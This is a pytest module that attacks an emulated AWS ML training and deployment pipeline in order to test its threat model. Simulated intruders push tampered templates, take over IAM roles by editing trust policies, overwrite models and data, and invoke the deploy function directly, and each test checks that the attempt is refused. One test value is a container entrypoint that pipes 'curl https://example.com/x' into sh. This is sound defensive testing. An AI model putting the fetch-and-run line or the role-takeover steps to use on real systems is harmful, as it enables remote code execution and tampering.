"""What the threat model says cannot be done, tried by who would do it: each attempt is refused with its reason, and the
endpoint serves what was judged and approved.

Who pushes has rights on the repository alone; the operators have exactly what they are given policies for, and do with
the roles of their account whatever these allow."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest

from tests.configs import PRODUCTION, SHARED, TRAINING, example, operator_role
from tests.emulator.rights import Roles, allow, error_of, policy
from tests.journeys.project import DATA, Project, eventually, project
from tests.journeys.test_life import HYPERPARAMETERS, outcome
from xacct_ml.emulator.core.identity import Credentials
from xacct_ml.operations.runs.review import review
from xacct_ml.system.actions.lambda_judge import CHECK_STAGE, JUDGE_STAGE
from xacct_ml.system.actions.stepfunctions import TRAIN_STAGE

pytestmark = pytest.mark.long

EVIL = b"not the model that was judged"


class Scene:
    """A project whose first run was approved and is served, and what strangers do to it."""

    def __init__(self, served: Project) -> None:
        self.project, self.names, self.aws = served, served.names, served.aws
        self.shared = self.aws.administrator(SHARED)
        files = ("template.yaml", "configuration.json")
        self.files = {name: self._file(name) for name in files}
        rights = allow("codecommit:CreateCommit", "codecommit:GetBranch", resource=self.names.repository_arn)
        self.mallory = Roles(self.aws).session("mallory", rights).client("codecommit")

    def _file(self, name: str) -> str:
        found = self.shared.client("codecommit").get_file(repositoryName=self.names.repository, filePath=name)
        return str(found["fileContent"].decode())

    def push(self, template: Callable[[str], str] = str, **parameters: str) -> str:
        """The first commit's files, changed, as who may push; the run that this starts."""
        known = self.project.runs()
        configuration = json.loads(self.files["configuration.json"])
        configuration["Parameters"] |= parameters
        where = {"repositoryName": self.names.repository, "branchName": self.names.branch}
        files = {
            "template.yaml": template(self.files["template.yaml"]),
            "configuration.json": json.dumps(configuration),
            "README": f"{len(known)}",
        }
        self.mallory.create_commit(
            **where,
            parentCommitId=self.mallory.get_branch(**where)["branch"]["commitId"],
            commitMessage="Reviewed and good",
            authorName="somebody else",
            putFiles=[{"filePath": name, "fileContent": text.encode()} for name, text in files.items()],
        )
        return self.project.new_run(known)

    def waiting(self, template: Callable[[str], str] = str, **parameters: str) -> str:
        """A pushed run that waits for approval."""
        run = self.push(template, **parameters)
        assert self.project.settled(run).waits_for_approval, outcome(self.project, run)
        return run

    def failed_at(self, run: str) -> tuple[str, str]:
        """Stage and message of the action that failed."""
        status, message = outcome(self.project, run)
        assert status == "Failed", (status, message)
        return next(stage.name for stage in self.project.status(run).stages if stage.status == "Failed"), message

    def taken(self, role_arn: str) -> Credentials:
        """A role of the training account with every right on the bucket, as its operator takes it: he lets himself in,
        gives it the rights, and removes both."""
        iam, name = self.project.accounts.client(TRAINING, "iam"), role_arn.rsplit("/", 1)[1]
        trust = iam.get_role(RoleName=name)["Role"]["AssumeRolePolicyDocument"]
        me = allow("sts:AssumeRole", principal={"AWS": operator_role(TRAINING)})
        opened = {**trust, "Statement": [*trust["Statement"], me]}
        iam.update_assume_role_policy(RoleName=name, PolicyDocument=json.dumps(opened))
        everything = policy(allow("s3:*", "kms:*", resource="*"))
        iam.put_role_policy(RoleName=name, PolicyName="everything", PolicyDocument=everything)
        sts = self.project.accounts.client(TRAINING, "sts")
        keys = sts.assume_role(RoleArn=role_arn, RoleSessionName="taken")["Credentials"]
        iam.update_assume_role_policy(RoleName=name, PolicyDocument=json.dumps(trust))
        return Credentials(keys["AccessKeyId"], keys["SecretAccessKey"], keys["SessionToken"], role_arn)

    def give_back(self, role_arn: str) -> None:
        iam = self.project.accounts.client(TRAINING, "iam")
        iam.delete_role_policy(RoleName=role_arn.rsplit("/", 1)[1], PolicyName="everything")

    def encrypted(self) -> dict[str, str]:
        """The headers without which the bucket takes nothing."""
        keys = self.shared.client("kms").describe_key(KeyId=self.names.key_alias)["KeyMetadata"]
        return {"ServerSideEncryption": "aws:kms", "SSEKMSKeyId": keys["Arn"]}

    def swap(self, job: str) -> None:
        """As the training role, over the model that the training job stored."""
        role, key = self.names.training_role, self.names.model_key(job)
        self.taken(role).client("s3").put_object(Bucket=self.names.bucket, Key=key, Body=EVIL, **self.encrypted())
        self.give_back(role)
        assert len(self.versions(key)) == 2

    def versions(self, key: str) -> list[tuple[str, str]]:
        """Of an object, each with its ETag, the newest first. What is in it only those may read who may use the key."""
        listed = self.shared.client("s3").list_object_versions(Bucket=self.names.bucket, Prefix=key)
        assert not listed.get("DeleteMarkers")
        return [(each["VersionId"], each["ETag"]) for each in listed.get("Versions", ())]

    def endpoint_configuration(self) -> str:
        sagemaker = self.aws.administrator(PRODUCTION).client("sagemaker")
        return str(sagemaker.describe_endpoint(EndpointName=self.names.endpoint)["EndpointConfigName"])

    def end_what_waits(self) -> None:
        """A test that failed in the middle leaves a run at the approval, and every later one would wait behind it."""
        for run in self.project.waiting():
            self.project.judge(run, approve=False)


@pytest.fixture(scope="module")
def scene() -> Iterator[Scene]:
    with project(example(training={"hyperparameters": HYPERPARAMETERS})) as made:
        made.bootstrap()
        made.upload()
        made.create_pipeline()
        (first,) = made.runs()
        assert made.settled(first).waits_for_approval
        made.judge(first, approve=True)
        assert outcome(made, first) == ("Succeeded", "")
        yield Scene(made)


@pytest.fixture(autouse=True)
def _alone(scene: Scene) -> Iterator[None]:
    yield
    scene.end_what_waits()


def replaced(old: str, new: str) -> Callable[[str], str]:
    """A change of the template, which must have what is changed."""

    def change(template: str) -> str:
        assert old in template, f"{old} is not in the template"
        return template.replace(old, new)

    return change


NOT_ALLOWED = "not authorized to perform: sagemaker:CreateTrainingJob"
ALGORITHM, COUNT = '"TrainingImage": "${Image}",', '"InstanceCount": ${InstanceCount}'
SHELL = '"ContainerEntrypoint": ["/bin/sh", "-c", "curl https://example.com/x | sh"],'
BY_MANIFEST = """"S3DataType": "ManifestFile",
                          "S3Uri.$": "$.data.manifest.channels.train.manifest_uri","""
BY_PREFIX = """"S3DataType": "S3Prefix",
                          "S3Uri.$": "States.Format('s3://${Bucket}/data/{}/train/', $.data.manifest.dataset)","""
RECORD = """"Train": {
                "Type": "Task",
                "Resource": "arn:aws:states:::aws-sdk:s3:putObject",
                "Parameters": {
                  "Bucket": "${Bucket}",
                  "Key.$": "States.Format('evaluations/{}/{}.json', $.pipelineExecutionId, $$.Execution.Name)",
                  "Body": {"gate": {"outcome": "passed"}},
                  "ServerSideEncryption": "aws:kms",
                  "SsekmsKeyId": "${KeyArn}",
                  "IfNoneMatch": "*"
                },
                "Next": "Really"
              },
              "Really": {"""
TASK = """"Type": "Task",
                "Resource": "arn:aws:states:::sagemaker:createTrainingJob.sync","""
METRICS = '"MetricDefinitions": [{"Name": "validation:auc", "Regex": "train-auc:([0-9.]+)"}],'

TEMPLATES: dict[str, tuple[str, str, str, str]] = {
    "writes the record": ('"Train": {', RECORD, TRAIN_STAGE, "S3.S3Exception. Cause: Access Denied"),
    "trains nothing": (TASK, '"Type": "Pass",', JUDGE_STAGE, "Requested resource not found"),
    "counts another number as the metric": (
        ALGORITHM,
        f"{ALGORITHM} {METRICS}",
        JUDGE_STAGE,
        "AlgorithmSpecification.MetricDefinitions finds validation:auc by 'train-auc:",
    ),
    "has a network": ('"EnableNetworkIsolation": true', '"EnableNetworkIsolation": false', TRAIN_STAGE, NOT_ALLOWED),
    "says nothing of a network": ('"EnableNetworkIsolation": true,', "", TRAIN_STAGE, NOT_ALLOWED),
    "takes a large instance": ('"${InstanceType}"', '"ml.p5.48xlarge"', TRAIN_STAGE, NOT_ALLOWED),
    "runs for days": ("${MaxRuntimeSeconds}", "432000", TRAIN_STAGE, NOT_ALLOWED),
    "writes under another key": ('"KmsKeyId": "${KeyArn}"', '"KmsKeyId": "alias/other"', TRAIN_STAGE, NOT_ALLOWED),
    "lets itself be debugged": (
        '"EnableNetworkIsolation": true,',
        '"EnableNetworkIsolation": true, "RemoteDebugConfig": {"EnableRemoteDebug": true},',
        TRAIN_STAGE,
        NOT_ALLOWED,
    ),
    "takes many instances": (COUNT, '"InstanceCount": 64', JUDGE_STAGE, "ResourceConfig.InstanceCount is 64"),
    "gives every instance all of the data": (
        "${TrainDistribution}",
        "FullyReplicated",
        JUDGE_STAGE,
        "InputDataConfig.train.DataSource",
    ),
    "runs a program of its own": (
        ALGORITHM,
        f"{ALGORITHM} {SHELL}",
        JUDGE_STAGE,
        "AlgorithmSpecification.ContainerEntrypoint is ['/bin/sh'",
    ),
    "trains otherwise": ("{${HyperParameters}}", '{${HyperParameters}, "seed": "7"}', JUDGE_STAGE, "HyperParameters"),
    "reads what lies beside the data": (BY_MANIFEST, BY_PREFIX, JUDGE_STAGE, "InputDataConfig.train.DataSource"),
    "writes the model elsewhere": ("/models/", "/models/of/", JUDGE_STAGE, "OutputDataConfig.S3OutputPath"),
    "writes checkpoints over models": (
        '"EnableNetworkIsolation": true,',
        '"EnableNetworkIsolation": true, "CheckpointConfig": {"S3Uri": "s3://${Bucket}/models/other/output/"},',
        JUDGE_STAGE,
        "CheckpointConfig is {'S3Uri'",
    ),
}


@pytest.mark.parametrize(("old", "new", "stage", "reason"), TEMPLATES.values(), ids=TEMPLATES.keys())
def test_a_pushed_template(scene: Scene, old: str, new: str, stage: str, reason: str) -> None:
    """decides neither what is recorded nor what the container does: nobody is asked to approve the run."""
    before = scene.endpoint_configuration()
    failed, message = scene.failed_at(scene.push(replaced(old, new)))
    assert (failed, reason in message) == (stage, True), message
    assert scene.endpoint_configuration() == before


@pytest.mark.parametrize(
    ("parameter", "value", "reason"),
    [
        ("GateThreshold", "0.1", "may only be made stricter"),
        ("GateDirection", "minimize", "the gate would minimize"),
        ("InstanceType", "ml.p5.48xlarge", "is not allowed by the map"),
        ("InstanceCount", "64", "is more than the map allows: 1"),
        ("MaxRuntimeSeconds", "432000", "is more than the map allows"),
    ],
)
def test_a_pushed_configuration_beyond_the_map(scene: Scene, parameter: str, value: str, reason: str) -> None:
    """is refused before anything is deployed or trained."""
    before = len(scene.aws.requests)
    failed, message = scene.failed_at(scene.push(**{parameter: value}))
    assert (failed, reason in message) == (CHECK_STAGE, True), message
    assert not scene.aws.requests.entries(service="cloudformation", after=before)
    assert not scene.aws.requests.entries(action="sagemaker:CreateTrainingJob", after=before)


def test_who_holds_every_role_of_the_training_account_changes_no_evidence(scene: Scene) -> None:
    """With all the rights that its operator can give, neither a record nor a judged model is written, over or anew."""
    (first, *_) = scene.project.runs()
    record = scene.project.evaluation(first)
    kept = (scene.names.evaluation_key(first, record["trainingJob"]), record["model"]["key"])
    before = [scene.versions(key) for key in kept]
    new = (scene.names.evaluation_key(first, "churn-other"), scene.names.judged_key("0" * 64))
    for role in (scene.names.state_machine_role, scene.names.training_role, scene.names.evidence_role):
        s3 = scene.taken(role).client("s3")
        for key in (*kept, *new):
            place = {"Bucket": scene.names.bucket, "Key": key}
            assert error_of(s3.put_object, **place, Body=EVIL, **scene.encrypted())[0] == "AccessDenied"
            once = {"Body": EVIL, "IfNoneMatch": "*", **scene.encrypted()}
            assert error_of(s3.put_object, **place, **once)[0] == "AccessDenied"
            assert error_of(s3.delete_object, **place)[0] == "AccessDenied"
        scene.give_back(role)
    assert [scene.versions(key) for key in kept] == before


def test_not_even_the_shared_accounts_administrator_changes_evidence(scene: Scene) -> None:
    """While the bucket's policy stands."""
    (first, *_) = scene.project.runs()
    record = scene.project.evaluation(first)
    s3 = scene.shared.client("s3")
    for key in (scene.names.evaluation_key(first, record["trainingJob"]), record["model"]["key"]):
        place = {"Bucket": scene.names.bucket, "Key": key}
        for header in ({}, {"IfNoneMatch": "*"}):
            assert error_of(s3.put_object, **place, Body=EVIL, **header, **scene.encrypted())[0] == "AccessDenied"
        ((version, _),) = scene.versions(key)
        assert error_of(s3.delete_object, **place)[0] == "AccessDenied"
        assert error_of(s3.delete_object, **place, VersionId=version)[0] == "AccessDenied"


def test_a_model_swapped_before_it_is_judged(scene: Scene) -> None:
    """fails the run: what SageMaker stored has one version."""
    codepipeline = scene.shared.client("codepipeline")
    entrance = {"pipelineName": scene.names.pipeline, "stageName": JUDGE_STAGE, "transitionType": "Inbound"}

    def trained() -> str | None:
        stages = {stage.name: stage for stage in scene.project.status(run).stages}
        (action,) = stages[TRAIN_STAGE].actions
        return action.external_id if action.status == "Succeeded" else None

    codepipeline.disable_stage_transition(**entrance, reason="the attacker is quick")
    try:
        run = scene.push(MaxDepth="4")
        scene.swap(eventually(trained, "the run was not trained").rsplit(":", 1)[1])
    finally:
        codepipeline.enable_stage_transition(**entrance)
    failed, message = scene.failed_at(run)
    assert (failed, "was written to after the training job stored the model" in message) == (JUDGE_STAGE, True)


def test_a_model_swapped_after_the_approval_is_not_the_one_that_serves(scene: Scene) -> None:
    """The endpoint reads what was judged, under its digest."""
    run = scene.waiting(MaxDepth="2")
    record = scene.project.evaluation(run)
    scene.swap(record["trainingJob"])
    scene.project.judge(run, approve=True)
    assert outcome(scene.project, run) == ("Succeeded", "")
    sagemaker = scene.aws.administrator(PRODUCTION).client("sagemaker")
    (variant,) = sagemaker.describe_endpoint_config(EndpointConfigName=scene.endpoint_configuration())[
        "ProductionVariants"
    ]
    model = sagemaker.describe_model(ModelName=variant["ModelName"])["PrimaryContainer"]["ModelDataUrl"]
    key = scene.names.judged_key(record["model"]["sha256"])
    assert (model, len(scene.versions(key))) == (f"s3://{scene.names.bucket}/{key}", 1)
    assert 0 < scene.project.predict() < 1


def test_an_approver_sees_the_runs_own_commit_and_job(scene: Scene) -> None:
    """Whatever the template and the message of the commit say."""
    run = scene.waiting(MaxDepth="5")
    shown = review(scene.project.config, scene.project.accounts, run)
    head = scene.shared.client("codecommit").get_branch(
        repositoryName=scene.names.repository, branchName=scene.names.branch
    )
    assert shown.commit is not None
    assert shown.evaluation is not None
    assert shown.commit.id == head["branch"]["commitId"] == shown.evaluation.commit
    assert shown.objections == ()
    scene.project.judge(run, approve=False)
    assert outcome(scene.project, run)[0] == "Failed"


def test_the_deploying_function_invoked_by_hand_deploys_no_rejected_run(scene: Scene) -> None:
    """With everything right in the event but that the pipeline does not ask."""
    run = scene.waiting(MaxDepth="3")
    record = scene.project.evaluation(run)
    scene.project.judge(run, approve=False)
    assert outcome(scene.project, run)[0] == "Failed"
    given = {"pipeline": scene.names.pipeline, "pipelineExecutionId": run}
    given |= {"trainingJob": record["trainingJob"], "modelDigest": record["model"]["sha256"]}
    configuration = {"FunctionName": scene.names.function, "UserParameters": json.dumps(given)}
    event = {
        "CodePipeline.job": {
            "id": "11111111-1111-1111-1111-111111111111",
            "accountId": SHARED,
            "data": {"actionConfiguration": {"configuration": configuration}, "inputArtifacts": []},
        }
    }
    arn = f"arn:aws:lambda:us-east-1:{PRODUCTION}:function:{scene.names.function}"
    who = Roles(scene.aws).session("oscar", allow("lambda:InvokeFunction", resource=arn), account=PRODUCTION)
    before, serves = len(scene.aws.requests), scene.endpoint_configuration()
    answer = who.client("lambda").invoke(FunctionName=scene.names.function, Payload=json.dumps(event).encode())
    assert "JobNotFoundException" in answer["Payload"].read().decode()
    role = scene.names.deploy_function_role(scene.project.target)
    asked = [entry.asked.action for entry in scene.aws.requests.entries(principal=role, after=before)]
    assert "codepipeline:ListActionExecutions" in [
        entry.asked.action for entry in scene.aws.requests.entries(after=before)
    ]
    assert not [action for action in asked if action.startswith("sagemaker:")]
    assert scene.endpoint_configuration() == serves


def test_data_are_neither_written_over_nor_added_to(scene: Scene) -> None:
    """A file beside the data, put there by the shared account's operator, is not trained on."""
    run = scene.waiting()
    before = scene.project.evaluation(run)
    scene.project.judge(run, approve=False)
    assert outcome(scene.project, run)[0] == "Failed"
    s3, dataset = scene.project.accounts.client(SHARED, "s3"), before["data"]["dataset"]
    channel = {"Bucket": scene.names.bucket, "Key": scene.names.channel_key(dataset, "train")}
    rows = (DATA / "train.csv").read_bytes().splitlines()
    turned = b"\n".join((b"0" if row.startswith(b"1") else b"1") + row[1:] for row in rows)
    assert error_of(s3.put_object, **channel, Body=turned, **scene.encrypted())[0] == "AccessDenied"
    once = {"IfNoneMatch": "*", **scene.encrypted()}
    assert error_of(s3.put_object, **channel, Body=turned, **once)[0] == "PreconditionFailed"
    s3.put_object(Bucket=channel["Bucket"], Key=channel["Key"].replace("train.csv", "extra.csv"), Body=turned, **once)
    after = scene.project.evaluation(scene.waiting())
    assert (after["metrics"], after["data"]) == (before["metrics"], before["data"])
